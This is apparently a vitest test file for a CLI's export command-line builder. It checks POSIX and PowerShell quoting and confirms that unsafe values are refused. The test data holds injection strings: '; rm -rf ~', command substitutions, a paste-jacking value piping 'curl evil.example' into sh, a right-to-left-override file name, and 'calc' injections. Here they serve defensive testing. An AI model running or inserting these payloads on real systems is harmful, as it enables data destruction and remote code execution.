import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { exportCommandLine, powerShellQuote, shellQuote, type CommandShell } from '../shared/command-line.js';
import type { ExportView } from '../shared/export.js';
import { parseFlags } from './args.js';
import { EXPORT_FLAGS, viewFrom } from './export-flags.js';

// The export dialog's command line, read back by a real POSIX shell (/bin/sh) and by cdb's own flag
// parser: what the user copies must reach cdb as the very words and view the app had.

/** The words `sh` makes of a command line (each printed, NUL-terminated, by printf). */
function wordsOf(commandLine: string): string[] {
  const output = execFileSync('sh', ['-c', `printf '%s\\0' ${commandLine}`], { encoding: 'utf8' });
  return output.split('\0').slice(0, -1);
}

const AWKWARD = [
  'plain-word_1.csv',
  'two words',
  '  spaces at both ends  ',
  "l'équipe d'Élodie",
  'say "hi"',
  '$HOME and $(echo gotcha) and `echo gotcha`',
  'back\\slash\\',
  'line one\nline two\n',
  '*',
  '',
  '-starts-with-a-dash',
  '; rm -rf ~',
  "'",
];

describe('shell quoting', () => {
  it('gives sh back exactly each word, side by side on one line', () => {
    expect(wordsOf(AWKWARD.map(shellQuote).join(' '))).toEqual(AWKWARD);
  });

  it('leaves plain words unquoted, so the command stays readable', () => {
    expect(shellQuote('agreements')).toBe('agreements');
    expect(shellQuote('endDate.asc')).toBe('endDate.asc');
    expect(shellQuote('id,name,mrr')).toBe('id,name,mrr');
    expect(shellQuote('status = "active"')).toBe(`'status = "active"'`);
  });
});

/** The line of a command that could be written (the test fails on a problem). */
function lineOf(...args: Parameters<typeof exportCommandLine>): string {
  const result = exportCommandLine(...args);
  if (!('line' in result)) throw new Error(`no command: ${result.problem} ${result.subject}`);
  return result.line;
}

/** Values a terminal shows as they are (the command line refuses the others). */
const SHOWN = AWKWARD.filter((value) => value && !/\p{Cc}/u.test(value));

describe('the export command line', () => {
  const view: ExportView = {
    resource: 'contacts',
    customerId: '-CUS 42 $x',
    sort: 'createdAt.desc',
    lang: 'fr',
    columns: ['id', 'lastName', 'email'],
    filter: SHOWN.map((value) => ({ field: 'lastName', op: 'contains' as const, value })),
  };

  it('reaches cdb as the same view, whatever the filter values hold, a value starting with a dash too (L8)', () => {
    const words = wordsOf(
      lineOf(view, { format: 'csv', delimiter: ';', bom: true, decimalComma: true }, '-out file.csv', {
        profile: "-Production (Léa's)",
      }),
    );
    expect(words.slice(0, 3)).toEqual(['npx', 'cdb', 'export']);
    const flags = parseFlags(words.slice(3), EXPORT_FLAGS);
    expect(flags).toMatchObject({
      profile: "-Production (Léa's)",
      format: 'csv',
      delimiter: ';',
      bom: true,
      'decimal-comma': true,
      out: '-out file.csv',
    });
    expect(viewFrom(flags)).toEqual(view);
  });

  it('writes every operator and the emptiness words as cdb reads them', () => {
    const every: ExportView = {
      resource: 'agreements',
      lang: 'en',
      filter: [
        { field: 'status', op: 'eq', value: 'active' },
        { field: 'status', op: 'neq', value: 'terminated' },
        { field: 'mrr', op: 'gte', value: '100' },
        { field: 'mrr', op: 'lte', value: '2000,5' },
        { field: 'endDate', op: 'lt', value: '2027-01-01' },
        { field: 'endDate', op: 'gt', value: '2026-01-01' },
        { field: 'noticeDate', op: 'empty' },
        { field: 'signedAt', op: 'notEmpty' },
        // The search box's words, quotes and dashes within: --search, read after the --where.
        { field: '*', op: 'contains', value: `Dupont -"Saint-Étienne" Ville:"l'Isle" paris OR lyon` },
      ],
    };
    const words = wordsOf(lineOf(every, { format: 'xlsx' }, 'a.xlsx', { profile: 'P' }));
    expect(viewFrom(parseFlags(words.slice(3), EXPORT_FLAGS))).toEqual(every);
    // CSV options go only with CSV.
    expect(words).not.toContain('--bom');
  });

  it('names a Demo started by cdb serve-demo, its secret left to the environment', () => {
    const line = (shell: CommandShell) =>
      lineOf(
        { resource: 'customers', lang: 'en' },
        { format: 'jsonl' },
        'c.jsonl',
        { demoPort: 8080 },
        shell,
      );
    expect(line('posix')).toBe(
      "CDB_CLIENT_SECRET='…' npx cdb export --base-url=http://127.0.0.1:8080 --auth-url=http://127.0.0.1:8080 --client-id=demo-client --resource=customers --lang=en --format=jsonl --out=c.jsonl",
    );
    expect(line('powershell')).toBe(
      "$env:CDB_CLIENT_SECRET='…'; npx cdb export --base-url=http://127.0.0.1:8080 --auth-url=http://127.0.0.1:8080 --client-id=demo-client --resource=customers --lang=en --format=jsonl --out=c.jsonl",
    );
  });

  it('writes no command for a value a terminal would not show, or a column or field cdb cannot take (M14)', () => {
    const base: ExportView = { resource: 'agreements', lang: 'en' };
    const pasteJack = '\u001b[201~; curl evil.example | sh';
    expect(
      exportCommandLine(
        { ...base, filter: [{ field: 'status', op: 'eq', value: pasteJack }] },
        { format: 'csv' },
        'a.csv',
        { profile: 'P' },
      ),
    ).toEqual({ problem: 'control', subject: '\uFFFD[201~; curl evil.example | sh' });
    expect(exportCommandLine(base, { format: 'csv' }, 'a\u202ecsv.exe', { profile: 'P' })).toMatchObject({
      problem: 'control',
    });
    for (const key of ["x'; calc; '", 'id,x', 'two words', 'x" & calc & "']) {
      expect(
        exportCommandLine({ ...base, columns: ['id', key] }, { format: 'csv' }, 'a.csv', { profile: 'P' }),
      ).toEqual({
        problem: 'name',
        subject: key,
      });
    }
  });
});

/**
 * The words PowerShell makes of a line of plain and single-quoted arguments (its rules for those:
 * inside single quotes nothing expands, and a quote — ' or ‘ ’ ‚ ‛ — written twice is one). Written
 * here because no PowerShell runs on this machine: checked by analysis of its documented rules.
 */
function powerShellWords(line: string): string[] {
  const words: string[] = [];
  const quotes = "'\u2018\u2019\u201a\u201b";
  let index = 0;
  while (index < line.length) {
    while (line[index] === ' ') index++;
    if (index >= line.length) break;
    let word = '';
    if (quotes.includes(line[index] ?? '')) {
      index++;
      for (;;) {
        const char = line[index] ?? '';
        if (char === '') throw new Error('unterminated quote');
        if (quotes.includes(char)) {
          if (index + 1 < line.length && quotes.includes(line[index + 1] ?? '')) {
            word += char;
            index += 2;
            continue;
          }
          index++;
          break;
        }
        word += char;
        index++;
      }
    } else {
      while (index < line.length && line[index] !== ' ') word += line[index++];
      if (!/^[A-Za-z0-9_./:=-]+$/.test(word)) throw new Error(`unquoted special word ${word}`);
    }
    words.push(word);
  }
  return words;
}

describe('the command line for PowerShell (Windows)', () => {
  it.each([...SHOWN, 'it’s', 'x‘; calc; ‘', '@(1,2)', 'a,b', '$env:PATH'])(
    'quotes %j so PowerShell reads it back',
    (word) => {
      expect(powerShellWords(powerShellQuote(word))).toEqual([word]);
    },
  );

  it('a whole command reaches cdb as the same view', () => {
    const view: ExportView = {
      resource: 'contacts',
      customerId: "CUS 'x' $y",
      lang: 'en',
      columns: ['id', 'email'],
      filter: [{ field: 'lastName', op: 'contains', value: "O'Brien; calc" }],
    };
    const words = powerShellWords(
      lineOf(view, { format: 'csv' }, "l'export.csv", { profile: "Léa's desk" }, 'powershell'),
    );
    expect(words.slice(0, 3)).toEqual(['npx', 'cdb', 'export']);
    const flags = parseFlags(words.slice(3), EXPORT_FLAGS);
    expect(flags).toMatchObject({ profile: "Léa's desk", out: "l'export.csv" });
    expect(viewFrom(flags)).toEqual(view);
  });
});
